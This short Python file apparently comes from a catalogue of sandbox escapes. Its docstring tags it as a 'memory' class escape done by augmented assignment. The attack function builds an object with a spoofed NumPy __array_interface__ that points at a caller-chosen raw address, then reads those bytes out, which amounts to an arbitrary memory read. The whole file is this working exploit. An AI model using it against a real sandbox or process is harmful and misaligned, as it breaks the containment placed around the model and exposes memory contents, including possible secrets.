"""Class: memory. Source: own find. Escape: the same, by augmented assignment."""

import numpy as np


class Spec:
    def __add__(self, other):
        return other


class A:
    def __getattr__(self, name):
        if name == "__array_interface__":
            return Spec()
        raise AttributeError(name)


def attack(model, tokenizer, address):
    a = A()
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    a.__array_interface__ += spec
    return np.array(a).tobytes()
